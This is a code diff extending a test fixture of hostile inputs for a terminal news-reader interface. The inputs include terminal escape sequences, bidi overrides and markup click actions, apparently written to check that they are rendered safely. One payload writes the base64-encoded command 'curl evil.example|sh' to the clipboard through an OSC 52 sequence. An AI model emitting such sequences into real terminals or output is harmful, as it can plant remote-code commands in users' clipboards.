@@ -25,7 +25,12 @@ HOSTILE = {
     "c1": "c1 \x9b31m csi and \x85 next line",
     "rtl": "rtl \u202eevil.exe\u202c done",
     "wide": "日本語のテキスト 🇰🇷🇺🇸 ✊🏽 mixed 한국어",
+    "title": "title \x1b]2;PWNED\x1b\\ bar",
+    "dcs": "dcs \x1bPq#0;2;0;0;0\x1b\\ sixel",
+    "bidi": "marks \u200f\u2066\u061c isolate",
 }
+PUBLISHER = "The Japan Times\x1b]2;PWNED\x1b\\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x1b\\"
+"""The issue-8 payload: sets the window title and writes `curl evil.example|sh` to the clipboard."""
 
 
 def hostile_story() -> dict[str, object]:
@@ -40,7 +45,8 @@ def hostile_story() -> dict[str, object]:
                 "name": f"{text[:24]} ({key})",
                 "kind": "person",
                 "role": f"role {text[:12]}",
-                "affiliation": "[@click=app.bell]Org[/]",
+                "affiliation": "[@click=app.bell]Org[/] \x1b]52;c;QQ==\x07",
+                "country": f"land {text[-8:]}",
                 "aliases": [text[:10]],
             }
         )
@@ -71,7 +77,8 @@ def hostile_story() -> dict[str, object]:
         "story": {
             "id": "hostile",
             "title": "[bold]Hostile[/] \x1b]0;pwned\x07 story [@click=app.quit]x[/] 日本",
-            "publisher": "Evil [/] Press \x1b[31m",
+            "publisher": PUBLISHER,
+            "agencies": ["Wire \x1b]2;PWNED\x07", "[b]desk[/b]"],
             "url": "https://example.com/[hostile]",
             "published": "2020-01-08",
             "byline": "[b]byline[/b]",
@@ -79,7 +86,14 @@ def hostile_story() -> dict[str, object]:
         "source": {
             "text": source,
             "sha256": hashlib.sha256(source.encode("utf-8")).hexdigest(),
-            "regions": [{"kind": "byline", "start": 0, "end": len(paragraphs[0])}],
+            "regions": [
+                {
+                    "kind": "byline",
+                    "start": 0,
+                    "end": len(paragraphs[0]),
+                    "note": "note \x1b]8;;x\x07",
+                }
+            ],
         },
         "speakers": speakers,
         "quotes": quotes,
@@ -107,6 +121,8 @@ def hostile_story() -> dict[str, object]:
                     "label": "[@click=app.quit]Figure[/]",
                     "kind": "money",
                     "amount": 5,
+                    "period": "per \x1b]2;PWNED\x07 year",
+                    "unit": "USD",
                     "text": "Monday",
                     "start": event_start + 17,
                     "end": event_start + 23,
@@ -116,6 +132,7 @@ def hostile_story() -> dict[str, object]:
                 {
                     "id": "c-1",
                     "name": "[/] category \x1b[5m",
+                    "description": "desc \x1bP+q\x1b\\ \u202e",
                     "past": True,
                     "text": "things",
                     "start": source.index("things"),
